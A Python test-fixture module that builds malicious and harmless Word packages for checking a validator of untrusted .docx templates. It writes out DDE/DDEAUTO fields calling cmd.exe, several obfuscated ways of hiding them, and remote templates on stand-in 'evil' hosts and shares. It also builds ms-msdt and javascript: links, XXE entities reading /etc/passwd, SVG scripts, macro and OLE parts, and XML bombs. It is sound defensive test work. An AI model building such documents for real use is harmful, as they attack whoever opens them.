"""Packages that hold what a template of a stranger may not hold: each with the name of its fault."""

from __future__ import annotations

from collections.abc import Callable

from .builder import NAMESPACES, W_NS, document_xml, paragraph, parts, zipped

DOCUMENT, TYPES, SETTINGS = "word/document.xml", "[Content_Types].xml", "word/settings.xml"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_RELATIONS = "word/_rels/document.xml.rels"


def related(kind: str, target: str, external: bool = True, part: str = _RELATIONS, base: str = _OFFICE) -> bytes:
    """A package in which a part refers to `target`."""
    made = parts("{{ x }}")
    mode = ' TargetMode="External"' if external else ""
    relation = f'<Relationship Id="rId77" Type="{base}/{kind}" Target="{target}"{mode}/>'
    whole = made.get(
        part, b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
    )
    return zipped(made | {part: whole.replace(b"</Relationships>", relation.encode() + b"</Relationships>")})


def holding(name: str, data: bytes = b"x") -> bytes:
    """A package with one part more."""
    return zipped(parts("{{ x }}") | {name: data})


def typed(name: str, kind: str) -> bytes:
    """A package that declares a content type."""
    made = parts("{{ x }}")
    override = f'<Override PartName="{name}" ContentType="{kind}"/></Types>'.encode()
    return zipped(made | {TYPES: made[TYPES].replace(b"</Types>", override)})


def retyped(kind: str) -> bytes:
    """A package whose main part is of another type."""
    made = parts("{{ x }}")
    old = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    return zipped(made | {TYPES: made[TYPES].replace(old, kind.encode())})


def body(xml: str, namespaces: str = "") -> bytes:
    """A package with markup in its body."""
    written = document_xml("{{ x }}", paragraph("<w:r/>")).replace(b"<w:p><w:r/></w:p>", xml.encode())
    return zipped(parts(replaced={DOCUMENT: written.replace(b"<w:document ", f"<w:document {namespaces} ".encode())}))


def simple_field(code: str) -> bytes:
    """A field in one element."""
    return body(f'<w:p><w:fldSimple w:instr="{code}"><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>')


def _mark(kind: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def _code(*pieces: str) -> str:
    return "".join(f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>' for piece in pieces)


def field(*pieces: str) -> bytes:
    """A field whose code stands in several runs."""
    shown = f"{_mark('separate')}<w:r><w:t>1</w:t></w:r>{_mark('end')}"
    return body(f"<w:p>{_mark('begin')}{_code(*pieces)}{shown}</w:p>")


def computed_field() -> bytes:
    """A field whose kind another field spells, letter by letter."""
    inner = _mark("begin") + _code(" QUOTE 68 68 69 ") + _mark("separate") + "<w:r><w:t>DDE</w:t></w:r>" + _mark("end")
    return body(f"<w:p>{_mark('begin')}{inner}{_code(' cmd ')}{_mark('end')}</w:p>")


def in_part(name: str, root: str, xml: str) -> bytes:
    """A package with markup in another part."""
    return zipped(parts("{{ x }}") | {name: f"<w:{root} {NAMESPACES}>{xml}</w:{root}>".encode()})


def deep(part: str = "word/numbering.xml", count: int = 4_000) -> bytes:
    return holding(part, b"<a>" * count + b"</a>" * count)


def judged_apart(name: str, kind: str, xml: str) -> bytes:
    """A package with a part whose content type alone says that it is XML."""
    made = parts("{{ x }}")
    override = f'<Override PartName="/{name}" ContentType="{kind}"/></Types>'.encode()
    return zipped(made | {TYPES: made[TYPES].replace(b"</Types>", override), name: xml.encode()})


def encoded(declared: str, codec: str) -> bytes:
    """A package whose text, with a field that fetches, is in another encoding."""
    written = document_xml("@").decode().replace("@", f"</w:t></w:r>{_SIMPLE_DDE}<w:r><w:t>").replace("UTF-8", declared)
    return zipped(parts(replaced={DOCUMENT: written.encode(codec)}))


def drawn_apart(xml: str) -> bytes:
    """A package with a picture in SVG."""
    return holding("word/media/a.svg", f'<svg xmlns="http://www.w3.org/2000/svg">{xml}</svg>'.encode())


def _said(text: str) -> str:
    return f"<w:r><w:t>{text}</w:t></w:r>"


def _whole(*inside: str) -> str:
    return f"{_mark('begin')}{''.join(inside)}{_mark('end')}"


def relation(attributes: str) -> bytes:
    """A package with a relation written as given."""
    space = "http://schemas.openxmlformats.org/package/2006/relationships"
    whole = f'<Relationships xmlns="{space}"><Relationship {attributes}/></Relationships>'
    return holding("word/_rels/header1.xml.rels", whole.encode())


_SIMPLE_DDE = '<w:fldSimple w:instr=" DDE cmd "/>'
_VML = 'xmlns:v="urn:schemas-microsoft-com:vml"'
_QUOTE = _whole(_code(' QUOTE "DDEAUTO cmd" '))
_TAKEN_RUN = '<w:r><w:instrText> PAGE </w:instrText><w:fldChar w:fldCharType="separate"/><w:t>{%r set a = 1 %}</w:t></w:r>'
_FOOTNOTES = "word/_rels/footnotes.xml.rels"
_ALT = '<w:altChunk r:id="r"/>'
_DDE = '<w:p><w:fldSimple w:instr=" DDEAUTO c:\\\\a.exe "/></w:p>'
_WORDML = "application/vnd.openxmlformats-officedocument"
_UTF16 = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY a "b">]><x/>'.encode("utf-16")

_IN_DISGUISE: dict[str, tuple[str, Callable[[], bytes]]] = {
    "DDE deleted and kept": (
        "field-refused",
        lambda: body(f"<w:p>{_whole('<w:del><w:r><w:delInstrText> DDE cmd </w:delInstrText></w:r></w:del>')}</w:p>"),
    ),
    "DDE half spelt by a field": (
        "field-refused",
        lambda: body(f"<w:p>{_whole(_code(' D'), _whole(_code(' QUOTE 68 ')), _code(' cmd '))}</w:p>"),
    ),
    "DDE around a remark": ("field-refused", lambda: field(" D{# #}DE cmd ")),
    "DDE behind a choice": (
        "field-refused",
        lambda: body(f"<w:p>{_whole(_said('{% if 0 %}'), _code(' PAGE '), _said('{% endif %}'), _code(' DDE cmd '))}</w:p>"),
    ),
    "DDE behind a run that a tag takes away": (
        "field-refused",
        lambda: body(f"<w:p>{_whole(_TAKEN_RUN, _code(' DDE cmd '))}</w:p>"),
    ),
    "a field computed behind a paragraph that a tag takes away": (
        "field-refused",
        lambda: body(
            f"<w:p>{_mark('begin')}</w:p><w:p>{_code(' PAGE ')}{_mark('separate')}{_mark('end')}{_said('{%p set a = 1 %}')}</w:p>"
            f"<w:p>{_QUOTE}{_mark('end')}</w:p>"
        ),
    ),
    "a field computed behind what a tag draws together": (
        "field-refused",
        lambda: body(
            f"<w:p>{_mark('begin')}{_said(' ')}{_code(' PAGE ')}{_mark('separate')}{_mark('end')}{_said('{%- set a = 1 %}')}"
            f"{_QUOTE}{_mark('end')}</w:p>"
        ),
    ),
    "DDE in a field that data begin": (
        "field-refused",
        lambda: body(f'<w:p><w:r><w:fldChar w:fldCharType="{{{{ x }}}}"/></w:r>{_code(" DDE cmd ")}{_mark("end")}</w:p>'),
    ),
    "DDE half as plain text": ("field-refused", lambda: body(f"<w:p>{_whole(_said('D'), _code('DE cmd'))}</w:p>")),
    "DDE inside a condition": (
        "field-refused",
        lambda: body(f"<w:p>{_whole(_code(' IF 1 = 1 '), _whole(_code(' DDE cmd ')))}</w:p>"),
    ),
    "DDE that nothing ends": ("field-refused", lambda: body(f"<w:p>{_mark('begin')}{_code(' DDE cmd ')}</w:p>")),
    "a link field to a file": ("field-refused", lambda: simple_field(" HYPERLINK &quot;file:///c:/a.exe&quot; ")),
    "a link field to a share": ("field-refused", lambda: simple_field(" HYPERLINK \\o &quot;a&quot; \\\\evil\\a ")),
    "DDE in a part of another name": (
        "field-refused",
        lambda: judged_apart(
            "word/footer9.dat", f"{_WORDML}.wordprocessingml.footer+xml", f"<w:ftr {NAMESPACES}><w:p>{_SIMPLE_DDE}</w:p></w:ftr>"
        ),
    ),
    "DDE in a Chinese encoding": ("broken-part", lambda: encoded("GBK", "gbk")),
    "DDE in UTF-7": ("broken-part", lambda: encoded("UTF-7", "utf-7")),
    "DDE in UTF-32": ("broken-part", lambda: encoded("UTF-32", "utf-32")),
    "DDE in an encoding that nobody knows": ("broken-part", lambda: encoded("x-none", "ascii")),
    "a way out by a word of the template": ("way-out-refused", lambda: related("hyperlink", "{{ 'file:///c:/a.exe' }}")),
    "a way out behind a word": ("way-out-refused", lambda: related("hyperlink", "{{ x }}file:///c:/a.exe")),
    "a relation that a tag makes external": (
        "way-out-refused",
        lambda: relation(f'Id="r1" Type="{_OFFICE}/image" Target="a.png" TargetMode="{{{{ \'External\' }}}}"'),
    ),
    "a relation of a kind that a tag tells": (
        "way-out-refused",
        lambda: relation('Id="r1" Type="{{ x }}" Target="https://evil/a.png" TargetMode="External"'),
    ),
    "a content type with a tag": ("unsafe-package", lambda: typed("/word/x.bin", "{{ x }}")),
    "an old picture outside": (
        "way-out-refused",
        lambda: body('<w:p><w:r><w:pict><v:imagedata src="http://evil/a.png"/></w:pict></w:r></w:p>', _VML),
    ),
    "an old drawing that leads to a file": (
        "way-out-refused",
        lambda: body('<w:p><w:r><w:pict><v:shape href="file:///c:/a.exe"/></w:pict></w:r></w:p>', _VML),
    ),
    "a script in a picture": ("macros-refused", lambda: drawn_apart("<script>a</script>")),
    "a deed in a picture": ("macros-refused", lambda: drawn_apart('<rect onload="a"/>')),
    "a picture in a picture outside": ("way-out-refused", lambda: drawn_apart('<image href="file:///etc/passwd"/>')),
    "a style sheet of a picture outside": ("way-out-refused", lambda: drawn_apart("<style>@import 'http://evil/a'</style>")),
    "an entity in a picture": (
        "document-type-refused",
        lambda: holding("word/media/a.svg", b'<!DOCTYPE a [<!ENTITY b "c">]><a/>'),
    ),
    "elements without end": ("unpacks-too-large", lambda: zipped(parts() | {"customXml/a.xml": _many(b"<b/>")}, 0)),
    "remarks without end": ("unpacks-too-large", lambda: zipped(parts() | {"customXml/a.xml": _many(b"<?b?>")}, 0)),
    "elements without end in two parts": (
        "unpacks-too-large",
        lambda: zipped(parts() | {f"customXml/{n}.xml": _many(b"<b/>", 160_000) for n in range(2)}, 0),
    ),
    "attributes without end": (
        "unpacks-too-large",
        lambda: zipped(parts() | {"customXml/a.xml": b"<a " + b" ".join(b'a%d=""' % n for n in range(1_200_000)) + b"/>"}, 0),
    ),
    "names without end": (
        "unpacks-too-large",
        lambda: zipped(parts() | {"customXml/a.xml": b"<a>" + b"".join(b"<a%d/>" % n for n in range(250_000)) + b"</a>"}, 0),
    ),
    "name spaces without end": (
        "unpacks-too-large",
        lambda: zipped(
            parts() | {"customXml/a.xml": b"<a " + b" ".join(b'xmlns:a%d="a"' % n for n in range(500_000)) + b"/>"}, 0
        ),
    ),
    "ways out without end": (
        "way-out-refused",
        lambda: relation(
            " ".join(
                f'Id="r{n}" Type="a/image" Target="http://evil/{n}" TargetMode="External"/><Relationship' for n in range(50_000)
            )
            + ' Id="a"'
        ),
    ),
}


def _many(element: bytes, count: int = 3_500_000) -> bytes:
    return b"<a>" + element * min(count, 15 * 2**20 // len(element)) + b"</a>"


GUARDED: dict[str, tuple[str, Callable[[], bytes]]] = {
    "macros": ("macros-refused", lambda: holding("word/vbaProject.bin")),
    "macros in capitals": ("macros-refused", lambda: holding("word/VBAPROJECT.BIN")),
    "data of macros": ("macros-refused", lambda: holding("word/vbaData.xml", b"<a/>")),
    "signed macros": ("macros-refused", lambda: holding("word/vbaProjectSignature.bin")),
    "macros by relation": ("macros-refused", lambda: related("vbaProject", "x.bin", False)),
    "keys of macros": ("macros-refused", lambda: related("keyMapCustomizations", "customizations.xml", False)),
    "buttons of macros": ("macros-refused", lambda: related("attachedToolbars", "attachedToolbars.bin", False)),
    "a ribbon of its own": ("macros-refused", lambda: related("ui/extensibility", "customUI.xml", False, "_rels/.rels")),
    "a .docm renamed": ("macros-refused", lambda: retyped("application/vnd.ms-word.document.macroEnabled.main+xml")),
    "a .dotm renamed": ("macros-refused", lambda: retyped("application/vnd.ms-word.template.macroEnabledTemplate.main+xml")),
    "type of macros": ("macros-refused", lambda: typed("/word/x.bin", "application/vnd.ms-office.vbaProject")),
    "an .xlsx renamed": ("no-word-document", lambda: retyped(f"{_WORDML}.spreadsheetml.sheet.main+xml")),
    "a .pptx renamed": ("no-word-document", lambda: retyped(f"{_WORDML}.presentationml.presentation.main+xml")),
    "an object": ("objects-refused", lambda: holding("word/embeddings/oleObject1.bin")),
    "a program": ("objects-refused", lambda: holding("word/embeddings/a.exe")),
    "a script": ("objects-refused", lambda: holding("word/embeddings/a.VBS")),
    "a shortcut": ("objects-refused", lambda: holding("word/embeddings/a.lnk")),
    "a control": ("objects-refused", lambda: holding("word/activeX/activeX1.xml", b"<a/>")),
    "binary of a control": ("objects-refused", lambda: holding("word/activeX/activeX1.bin")),
    "object by relation": ("objects-refused", lambda: related("oleObject", "embeddings/x.dat", False)),
    "linked object": ("objects-refused", lambda: related("oleObject", "file:///c:/a.xlsx")),
    "control by relation": ("objects-refused", lambda: related("control", "x.xml", False)),
    "an add-in": (
        "objects-refused",
        lambda: related("webextension", "x.xml", False, base="http://schemas.microsoft.com/office/2011/relationships"),
    ),
    "a package that is no Office file": ("objects-refused", lambda: related("package", "embeddings/x.zip", False)),
    "object in the text": (
        "objects-refused",
        lambda: body(
            '<w:p><w:r><w:object><o:OLEObject Type="Link" ProgID="Package"/></w:object></w:r></w:p>',
            'xmlns:o="urn:schemas-microsoft-com:office:office"',
        ),
    ),
    "control in the text": ("objects-refused", lambda: body("<w:p><w:r><w:control/></w:r></w:p>")),
    "type of an object": ("objects-refused", lambda: typed("/word/x.dat", f"{_WORDML}.oleObject")),
    "type of a control": ("objects-refused", lambda: typed("/word/x.xml", "application/vnd.ms-office.activeX+xml")),
    "text of another file": ("foreign-text-refused", lambda: body('<w:altChunk r:id="rId1"/>')),
    "text of another file by relation": ("foreign-text-refused", lambda: related("aFChunk", "chunk.html", False)),
    "text of another file outside": ("foreign-text-refused", lambda: related("aFChunk", "http://evil/chunk.html")),
    "a sub-document": ("foreign-text-refused", lambda: body('<w:p><w:subDoc r:id="rId1"/></w:p>')),
    "a sub-document by relation": ("foreign-text-refused", lambda: related("subDocument", "file:///c:/a.docx")),
    "a frame": ("foreign-text-refused", lambda: related("frame", "http://evil/a.html")),
    "text of another file in a header": (
        "foreign-text-refused",
        lambda: in_part("word/header1.xml", "hdr", '<w:altChunk r:id="r"/>'),
    ),
    "a template outside": (
        "way-out-refused",
        lambda: related("attachedTemplate", "http://evil/a.dotm", part="word/_rels/settings.xml.rels"),
    ),
    "a template on a share": (
        "way-out-refused",
        lambda: related("attachedTemplate", "\\\\evil\\a.dotm", part="word/_rels/settings.xml.rels"),
    ),
    "a template inside": ("way-out-refused", lambda: related("attachedTemplate", "a.dotm", False)),
    "a picture outside": ("way-out-refused", lambda: related("image", "http://evil/a.png")),
    "a picture on a share": ("way-out-refused", lambda: related("image", "file://evil/a.png")),
    "a video outside": ("way-out-refused", lambda: related("video", "https://evil/a.mp4")),
    "a link to a file": ("way-out-refused", lambda: related("hyperlink", "file:///c:/windows/a.exe")),
    "a link to a share": ("way-out-refused", lambda: related("hyperlink", "\\\\evil\\a")),
    "a link to a script": ("way-out-refused", lambda: related("hyperlink", "javascript:alert(1)")),
    "a link to a program": ("way-out-refused", lambda: related("hyperlink", "ms-msdt:/id PCWDiagnostic")),
    "a link to a search": ("way-out-refused", lambda: related("hyperlink", "search-ms:query=a")),
    "a link to data": ("way-out-refused", lambda: related("hyperlink", "data:text/html,a")),
    "a font outside": ("way-out-refused", lambda: related("font", "http://evil/a.odttf", part="word/_rels/fontTable.xml.rels")),
    "a style sheet outside": ("way-out-refused", lambda: related("styles", "http://evil/styles.xml")),
    "a chart's data outside": (
        "way-out-refused",
        lambda: related("externalLinkPath", "http://evil/a.xlsx", part="word/charts/_rels/chart1.xml.rels"),
    ),
    "a picture outside of a footnote": (
        "way-out-refused",
        lambda: related("image", "http://evil/a", part=_FOOTNOTES),
    ),
    "a part above the package": ("way-out-refused", lambda: related("image", "../../../etc/passwd", False)),
    "a part of the system": ("way-out-refused", lambda: related("image", "file:///etc/passwd", False)),
    "a part of another machine": ("way-out-refused", lambda: related("image", "//evil/a.png", False)),
    "DDE": ("field-refused", lambda: simple_field(" DDE cmd ")),
    "DDEAUTO": ("field-refused", lambda: simple_field(" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe ")),
    "dde in small letters": ("field-refused", lambda: simple_field("ddeauto cmd")),
    "DDE in pieces": ("field-refused", lambda: field(" D", "DE", "AUTO cmd ")),
    "DDE spelt by a field": ("field-refused", computed_field),
    "DDE in a header": ("field-refused", lambda: in_part("word/header1.xml", "hdr", _DDE)),
    "DDE in a footnote": (
        "field-refused",
        lambda: in_part("word/footnotes.xml", "footnotes", _DDE),
    ),
    "DDE in a comment": (
        "field-refused",
        lambda: in_part("word/comments.xml", "comments", _DDE),
    ),
    "DDE in a style": ("field-refused", lambda: in_part("word/glossary/document.xml", "glossaryDocument", _DDE)),
    "text of a file": ("field-refused", lambda: simple_field(" INCLUDETEXT &quot;c:/a.docx&quot; ")),
    "picture of a file": ("field-refused", lambda: simple_field(" INCLUDEPICTURE &quot;http://evil/a.png&quot; ")),
    "picture in pieces": ("field-refused", lambda: field(" INCLUDE", "PICTURE &quot;http://evil&quot;")),
    "a link field": ("field-refused", lambda: simple_field(" LINK Excel.Sheet c:/a.xlsx ")),
    "a data base": ("field-refused", lambda: simple_field(" DATABASE \\d c:/a.mdb ")),
    "a button": ("field-refused", lambda: simple_field(" MACROBUTTON AutoOpen nhấn ")),
    "an old picture": ("field-refused", lambda: simple_field(" IMPORT c:/a.png ")),
    "a table of other files": ("field-refused", lambda: simple_field(" RD c:/a.docx ")),
    "a field that the data name": ("field-refused", lambda: simple_field(" {{ x }} cmd ")),
    "mail merge": ("data-source-refused", lambda: in_part(SETTINGS, "settings", "<w:mailMerge><w:query/></w:mailMerge>")),
    "mail merge by relation": ("data-source-refused", lambda: related("mailMergeSource", "file:///c:/a.xlsx")),
    "a document type in the data": ("document-type-refused", lambda: holding("customXml/item1.xml", b"<!DOCTYPE x><x/>")),
    "an entity in the data": (
        "document-type-refused",
        lambda: holding("customXml/item1.xml", b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'),
    ),
    "a document type in UTF-16": ("document-type-refused", lambda: holding("customXml/item1.xml", _UTF16)),
    "a document type in relations": (
        "document-type-refused",
        lambda: holding("word/_rels/footnotes.xml.rels", b"<!DOCTYPE x><Relationships/>"),
    ),
    "a document type in content types": (
        "document-type-refused",
        lambda: zipped(parts("{{ x }}") | {TYPES: b"<!DOCTYPE x>" + parts()[TYPES].split(b"?>", 1)[1].strip()}),
    ),
    "elements too deep in lists": ("nested-too-deep", deep),
    "elements too deep in data": ("nested-too-deep", lambda: deep("customXml/item1.xml", 100_000)),
    "an old Word file": ("encrypted-file", lambda: bytes.fromhex("d0cf11e0a1b11ae1") + bytes(4096)),
    "a file too large": ("template-too-large", lambda: bytes(33 * 2**20)),
} | _IN_DISGUISE

SOUND: dict[str, Callable[[], bytes]] = {
    "a link to the web": lambda: related("hyperlink", "https://vinhlong.gov.vn/"),
    "a link to a mail address": lambda: related("hyperlink", "mailto:xa@vinhlong.gov.vn"),
    "a link with a tag": lambda: related("hyperlink", "{{ x }}"),
    "a picture inside": lambda: related("image", "media/image1.png", False),
    "a part named from the root": lambda: related("image", "/word/media/image1.png", False),
    "a part beside the folder": lambda: related("customXml", "../customXml/item1.xml", False),
    "a workbook of a chart": lambda: related("package", "../embeddings/a.xlsx", False, "word/charts/_rels/chart1.xml.rels"),
    "page numbers": lambda: simple_field(" PAGE "),
    "pages": lambda: simple_field(" NUMPAGES \\* MERGEFORMAT "),
    "contents": lambda: field(' TOC \\o "1-3" \\h \\z '),
    "a reference": lambda: field(" REF ", "_Ref123 \\h "),
    "a page reference": lambda: field(" PAGEREF _Toc1 \\h "),
    "a date": lambda: simple_field(" DATE \\@ &quot;dd/MM/yyyy&quot; "),
    "a title": lambda: simple_field(" STYLEREF &quot;Heading 1&quot; "),
    "a sum": lambda: simple_field(" =SUM(ABOVE) "),
    "a link field to the web": lambda: field(' HYPERLINK "https://vinhlong.gov.vn" '),
    "a field in a condition": lambda: body(
        f"<w:p>{_mark('begin')}{_code(' IF ')}{_mark('begin')}{_code(' PAGE ')}{_mark('end')}"
        f"{_code(' = 1 a b ')}{_mark('end')}</w:p>"
    ),
    "data": lambda: holding("customXml/item1.xml", f'<a xmlns="{W_NS}"/>'.encode()),
    "signatures": lambda: related("digital-signature/origin", "_xmlsignatures/origin.sigs", False, "_rels/.rels"),
    "a link inside the document": lambda: field(' HYPERLINK \\l "_Toc123" \\o "Mục 1" '),
    "a link field with a tag": lambda: field(' HYPERLINK "{{ x }}" '),
    "a reference with a tag": lambda: field(" REF {{ x }} "),
    "contents with tags": lambda: body(
        f"<w:p>{_mark('begin')}{_code(' TOC ')}{_mark('separate')}{_said('{% if x %}{{ x }}{% endif %}')}</w:p>"
        f"<w:p>{_mark('end')}</w:p>"
    ),
    "a field in a loop": lambda: body(
        f"<w:p>{_said('{%p if x %}')}</w:p><w:p>{_whole(_code(' PAGE '), _mark('separate'), _said('1'))}</w:p>"
        f"<w:p>{_said('{%p endif %}')}</w:p>"
    ),
    "a drawing in SVG": lambda: holding(
        "word/media/a.svg",
        b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">'
        b'<svg xmlns="http://www.w3.org/2000/svg"><rect fill="url(#a)"/><use href="#b"/></svg>',
    ),
    "text in UTF-16": lambda: zipped(
        parts(replaced={DOCUMENT: document_xml("{{ x }}").decode().replace("UTF-8", "UTF-16").encode("utf-16")})
    ),
    "an old drawing": lambda: body(
        '<w:p><w:r><w:pict><v:shape href="https://vinhlong.gov.vn"><v:imagedata src=""/></v:shape></w:pict></w:r></w:p>', _VML
    ),
    "a template (.dotx)": lambda: retyped(f"{_WORDML}.wordprocessingml.template.main+xml"),
}
